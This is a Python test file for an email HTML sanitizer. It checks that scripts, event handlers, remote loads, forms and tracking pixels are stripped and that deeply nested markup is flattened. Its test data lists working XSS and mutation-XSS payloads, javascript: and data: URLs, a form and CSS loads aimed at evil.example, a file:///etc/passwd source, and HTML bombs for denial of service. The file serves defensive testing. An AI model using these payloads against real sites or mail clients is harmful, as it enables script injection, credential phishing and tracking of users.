"""HTML made harmless: nothing runs, loads, submits or covers; and nothing takes long."""

import html
import re

import pytest

from luister.markup.sanitize import MAX_DEPTH, sanitize
from luister.markup.tokens import TooComplexError
from tests.connectors.email.accounts import codes, mail, parse

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=pin><button>Ok</button></form>",
    "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;top:0;left:0;z-index:9;background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:\\75rl(https://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.example/x.png'><tr><td background='https://evil.example/y'>x</td></tr></table>",
    "<video poster='https://evil.example/x' src='https://evil.example/v'></video><audio src=x>",
    "<img srcset='https://evil.example/x 2x' src='https://good.example/x'>",
    "<img data-remote-src='javascript:alert(1)' data-cid='x' src='/logout'>",
    "<body onload=alert(1) background='https://evil.example'>",
    "<p id='login' class='modal' name='x'>x</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitize_attack(attack: str) -> None:
    safe = sanitize(f"<p>voor</p>{attack}<p>na</p>").html

    tags = re.findall(r"<[a-z][^>]*>", re.sub(r'"[^"]*"', '""', safe))
    assert not re.search(
        r"<(script|style|form|input|button|iframe|object|embed|base|meta|link|svg|math|video|audio|body)", safe
    )
    assert not any(re.search(r"\s(on\w+|id|class|name|srcset|background|poster|action)=", tag) for tag in tags)
    assert "evil.example" not in safe
    assert not re.search(r"javascript|vbscript|expression|position|@import|url\(", html.unescape(safe), re.IGNORECASE)
    assert not re.search(r'\ssrc="(?!data:image/)', safe)


def test_sanitize_keeps_how_a_mail_looks() -> None:
    source = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" style="color:#333;padding:4px">'
        '<font color="red" size="2">Rood</font> <b>vet</b> <a href="https://shop.example/?a=1&amp;b=2">link</a>'
        "</td></tr></table><ul><li>een<li>twee</ul>"
    )

    safe = sanitize(source).html

    assert '<table width="600" cellpadding="0" bgcolor="#ffffff">' in safe
    assert 'style="color:#333;padding:4px"' in safe
    assert '<font color="red" size="2">Rood</font> <b>vet</b>' in safe
    assert 'href="https://shop.example/?a=1&amp;b=2"' in safe
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in safe
    assert "<ul><li>een</li><li>twee</li></ul>" in safe


def test_sanitize_images() -> None:
    safe = sanitize(
        '<img src="CID:foto%40x" alt="Foto"><img src="HTTPS://img.example/a.png" width="300">'
        '<img src="//img.example/b.png"><img src="data:image/png;base64,iVBORw0KGgo="><img src="file:///etc/passwd">'
        '<img src="data:image/svg+xml;base64,AAAA">'
    )

    assert safe.html == (
        '<img alt="Foto" data-cid="foto@x"><img width="300" data-remote-src="https://img.example/a.png">'
        '<img data-remote-src="https://img.example/b.png"><img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert safe.remote_images == 2


@pytest.mark.parametrize(
    "image",
    [
        '<img src="https://t.example/o.gif" width="1" height="1">',
        '<img src="https://t.example/o.gif" width=0>',
        '<img src="https://t.example/o.gif" height="1px">',
        '<img src="https://t.example/o.gif" style="display:none">',
        '<img src="https://t.example/o.gif" style="width:1px;height:1px">',
    ],
)
def test_sanitize_drops_trackers(image: str) -> None:
    assert sanitize(image) == sanitize("")


HEAVY = {
    "nested divs": "<div>" * 20_000 + "hallo",
    "nested quotes": "<blockquote>" * 20_000 + "hallo",
    "formatting reopened": "<font a=1>" * 1_000 + "<p>x" * 15_000,
    "formatting across blocks": "".join(f"<b id={number}><p>x</b>" for number in range(14_000)),
    "links in links": "<a href=https://x.example><div>" * 15_000,
    "tables in tables": "<table><tr><td>" * 15_000,
    "text in tables": "<table>x" * 25_000,
    "ends without beginnings": "</div></p></b>" * 15_000,
    "never ending attribute": "<p>hallo</p>" + '<a b="' * 50_000,
    "never ending comment": "<p>hallo</p>" + "<!--" * 50_000,
    "never ending style": "<p>hallo</p>" + "<style>" * 50_000,
}


@pytest.mark.parametrize("name", HEAVY)
def test_sanitize_heavy_html_becomes_small_and_flat(name: str) -> None:
    # What costs time is depth (quadratic) and formatting that is opened again in every block.
    safe = sanitize(HEAVY[name]).html

    depth, deepest = 0, 0
    for end, empty in re.findall(r"<(/?)(br|hr|img)?", safe):
        depth += -1 if end else 0 if empty else 1
        deepest = max(depth, deepest)
    assert deepest <= 2 * MAX_DEPTH  # the parser adds a tbody to each table
    assert len(safe) < 10 * len(HEAVY[name])


@pytest.mark.parametrize("source", ["<p>" * 60_001, "x" * 1_500_001])
def test_sanitize_too_much(source: str) -> None:
    with pytest.raises(TooComplexError):
        sanitize(source)


def test_parse_html_too_complex_is_shown_as_text() -> None:
    post = parse(mail("<p>Hallo " + "<i>" * 70_000, Content_Type="text/html"))

    assert post.html == ""
    assert post.text.startswith("Hallo")
    assert "mail.plain_only" in codes(post)
